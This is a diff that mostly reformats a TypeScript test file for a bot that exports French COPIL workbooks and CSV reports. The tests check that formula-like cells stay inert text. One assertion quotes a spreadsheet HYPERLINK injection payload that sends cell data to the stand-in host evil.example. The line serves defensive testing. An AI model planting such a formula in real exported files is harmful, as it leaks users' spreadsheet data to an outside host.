@@ -1,12 +1,20 @@
-import { parse } from "csv-parse/sync";
 import { join } from "node:path";
+import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { csvLines, inertCsvText } from "../../src/core/csv.ts";
 import { buildActivitiesCsv, buildIndicatorsCsv } from "../../src/features/reports/csv.ts";
 import type { CopilQuery } from "../../src/features/reports/data.ts";
 import { buildCopilWorkbook } from "../../src/features/reports/workbook.ts";
 import { createTestBot, type TestBot } from "../support/bot.ts";
-import { CSV_EVERY_SHEET, CSV_FRENCH_IN, filesIn, isA4Landscape, libreOfficeConvert, pdfPages, scratchFolder } from "../support/real-readers.ts";
+import {
+  CSV_EVERY_SHEET,
+  CSV_FRENCH_IN,
+  filesIn,
+  isA4Landscape,
+  libreOfficeConvert,
+  pdfPages,
+  scratchFolder,
+} from "../support/real-readers.ts";
 import { formulaCells, loadWorkbook, readWorkbookFile, sheetMatrix, worksheetNamed } from "../support/sheet-matrix.ts";
 import { day } from "./reports-support.ts";
 
@@ -30,8 +38,17 @@ beforeAll(async () => {
   scratch = await scratchFolder();
   const prisma = bot.db.prisma;
   const networkId = bot.networkId;
-  const adviser = (await prisma.platformIdentity.findFirstOrThrow({ where: { platform: "local", externalId: "demo-adviser" } })).memberId;
-  const base = { networkId, memberId: adviser, durationMin: 90, participants: 6, place: "OTHER_PLACE" as const, themes: ["security"] };
+  const adviser = (
+    await prisma.platformIdentity.findFirstOrThrow({ where: { platform: "local", externalId: "demo-adviser" } })
+  ).memberId;
+  const base = {
+    networkId,
+    memberId: adviser,
+    durationMin: 90,
+    participants: 6,
+    place: "OTHER_PLACE" as const,
+    themes: ["security"],
+  };
   await prisma.activityReport.createMany({
     data: [
       { ...base, kind: "COLLECTIVE", date: day("2026-03-02"), workshopTitle: INJECTED_TITLE },
@@ -42,20 +59,39 @@ beforeAll(async () => {
   const indicators = await prisma.indicator.findMany({ where: { networkId }, orderBy: { label: "asc" } });
   const manual = indicators.find((i) => i.computation === "MANUAL")!;
   await prisma.indicator.update({ where: { id: manual.id }, data: { label: BULLET_LABEL } });
-  await prisma.progressReport.create({ data: { networkId, memberId: adviser, ficheActionId: manual.ficheActionId, indicatorId: manual.id, date: day("2026-04-01"), value: -3, text: "-3 : doublons retirés du comptage" } });
+  await prisma.progressReport.create({
+    data: {
+      networkId,
+      memberId: adviser,
+      ficheActionId: manual.ficheActionId,
+      indicatorId: manual.id,
+      date: day("2026-04-01"),
+      value: -3,
+      text: "-3 : doublons retirés du comptage",
+    },
+  });
   // A plan that sets no numeric target stores null (since the file imports' schema; 0 was the old way).
   const untargeted = indicators.filter((i) => i.id !== manual.id && Number(i.target) > 0).slice(0, 2);
   await prisma.indicator.updateMany({ where: { id: { in: untargeted.map((i) => i.id) } }, data: { target: null } });
   noTarget = [...indicators.filter((i) => i.target === null).map((i) => i.label), ...untargeted.map((i) => i.label)];
-  query = { networkId, range: { from: { year: 2026, month: 1, day: 1 }, to: { year: 2026, month: 6, day: 30 } }, locale: "fr" };
-  [workbook, activitiesCsv, indicatorsCsv] = await Promise.all([buildCopilWorkbook(prisma, query), buildActivitiesCsv(prisma, query), buildIndicatorsCsv(prisma, query)]);
+  query = {
+    networkId,
+    range: { from: { year: 2026, month: 1, day: 1 }, to: { year: 2026, month: 6, day: 30 } },
+    locale: "fr",
+  };
+  [workbook, activitiesCsv, indicatorsCsv] = await Promise.all([
+    buildCopilWorkbook(prisma, query),
+    buildActivitiesCsv(prisma, query),
+    buildIndicatorsCsv(prisma, query),
+  ]);
 });
 afterAll(async () => {
   await scratch?.remove();
   await bot.close();
 });
 
-const csvRows = (bytes: Uint8Array | string) => parse(Buffer.from(bytes), { bom: true, delimiter: ";", relax_column_count: true }) as string[][];
+const csvRows = (bytes: Uint8Array | string) =>
+  parse(Buffer.from(bytes), { bom: true, delimiter: ";", relax_column_count: true }) as string[][];
 const rowOf = (rows: string[][], label: string) => rows.find((r) => r[3] === label)!;
 
 describe("a CSV cell that a spreadsheet would run as a formula", () => {
@@ -65,12 +101,19 @@ describe("a CSV cell that a spreadsheet would run as a formula", () => {
     expect(csvLines([["=1+1", { raw: "-3" }, { raw: "2,5" }, "-3", "Zoé"]])).toBe(`"'=1+1";-3;2,5;"'-3";Zoé\r\n`);
   });
 
-  it("stays text in LibreOffice in the activities and the indicators files, while numbers stay numbers", { timeout: LIBREOFFICE_TIMEOUT }, async () => {
-    expect(Buffer.from(activitiesCsv).toString("utf8")).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1;""voir"")"`);
+  it("stays text in LibreOffice in the activities and the indicators files, while numbers stay numbers", {
+    timeout: LIBREOFFICE_TIMEOUT,
+  }, async () => {
+    expect(Buffer.from(activitiesCsv).toString("utf8")).toContain(
+      `"'=HYPERLINK(""http://evil.example/?d=""&A1;""voir"")"`,
+    );
     const indicators = csvRows(indicatorsCsv);
     expect(rowOf(indicators, `'${BULLET_LABEL}`)[4]).toBe("-3");
 
-    const files = [{ name: "activites.csv", bytes: activitiesCsv }, { name: "indicateurs.csv", bytes: indicatorsCsv }];
+    const files = [
+      { name: "activites.csv", bytes: activitiesCsv },
+      { name: "indicateurs.csv", bytes: indicatorsCsv },
+    ];
     const out = await libreOfficeConvert(scratch.path, files, "xlsx", CSV_FRENCH_IN);
     for (const name of ["activites.xlsx", "indicateurs.xlsx"]) {
       const sheet = (await readWorkbookFile(join(out, name))).worksheets[0]!;
@@ -99,7 +142,9 @@ describe("an indicator whose plan sets no numeric target", () => {
     }
     const targeted = summary.slice(1).filter((r) => !noTarget.includes(r[3] as string));
     expect(targeted.length).toBeGreaterThan(0);
-    expect(targeted.every((r) => typeof r[5] === "number" && (r[5] as number) > 0 && typeof r[6] === "number")).toBe(true);
+    expect(targeted.every((r) => typeof r[5] === "number" && (r[5] as number) > 0 && typeof r[6] === "number")).toBe(
+      true,
+    );
   });
 });
 
@@ -108,14 +153,24 @@ describe("the COPIL workbook on paper", () => {
     const book = await loadWorkbook(workbook);
     expect(book.worksheets.length).toBeGreaterThan(3);
     for (const sheet of book.worksheets) {
-      expect(sheet.pageSetup, sheet.name).toMatchObject({ paperSize: 9, orientation: "landscape", fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: "1:1" });
+      expect(sheet.pageSetup, sheet.name).toMatchObject({
+        paperSize: 9,
+        orientation: "landscape",
+        fitToPage: true,
+        fitToWidth: 1,
+        fitToHeight: 0,
+        printTitlesRow: "1:1",
+      });
       expect(sheet.views[0], sheet.name).toMatchObject({ state: "frozen", ySplit: 1 });
     }
     // Long headers wrap instead of being cut at the cell's border.
-    for (const name of ["Synthèse", "Activités"]) expect(book.getWorksheet(name)!.getRow(1).getCell(4).alignment).toMatchObject({ wrapText: true });
+    for (const name of ["Synthèse", "Activités"])
+      expect(book.getWorksheet(name)!.getRow(1).getCell(4).alignment).toMatchObject({ wrapText: true });
   });
 
-  it("LibreOffice prints it as A4 landscape pages, a page per small sheet, and reads the values the bot wrote", { timeout: LIBREOFFICE_TIMEOUT }, async () => {
+  it("LibreOffice prints it as A4 landscape pages, a page per small sheet, and reads the values the bot wrote", {
+    timeout: LIBREOFFICE_TIMEOUT,
+  }, async () => {
     // The same folder, so the same LibreOffice profile, as the CSV test: a second profile costs a slower start.
     const folder = scratch.path;
     const files = [{ name: "copil.xlsx", bytes: workbook }];
@@ -131,7 +186,14 @@ describe("the COPIL workbook on paper", () => {
     for (const name of names) {
       const ours = sheetMatrix(worksheetNamed(book, name), { defval: "", blankrows: true });
       const theirs = csvRows(read.get(`copil-${name}.csv`)!);
-      expect(theirs.map((r) => r.map(asOurs)), name).toEqual(ours.map((r) => [...r.map(asOurs), ...Array(Math.max(0, theirs[0]!.length - r.length)).fill("")].slice(0, theirs[0]!.length)));
+      expect(
+        theirs.map((r) => r.map(asOurs)),
+        name,
+      ).toEqual(
+        ours.map((r) =>
+          [...r.map(asOurs), ...Array(Math.max(0, theirs[0]!.length - r.length)).fill("")].slice(0, theirs[0]!.length),
+        ),
+      );
     }
   });
 });
